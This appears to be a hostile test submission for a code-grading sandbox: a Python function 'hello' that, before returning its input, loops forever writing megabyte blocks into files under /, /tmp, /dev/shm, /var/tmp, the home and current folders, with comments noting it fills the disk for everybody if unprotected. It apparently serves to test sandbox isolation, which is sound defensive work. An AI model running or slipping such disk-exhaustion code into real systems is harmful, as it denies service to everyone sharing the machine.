# %%answer hello_ranks
# tries: fills /tmp, /dev/shm and its folder
# unprotected: the disk is full for everybody
import contextlib
import os


def hello(number):
    for folder in (".", "/", "/tmp", "/dev", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
        with contextlib.suppress(OSError), open(f"{folder}/{os.getpid()}", "wb") as file:
            while True:
                file.write(b"x" * 2**20)
    return number
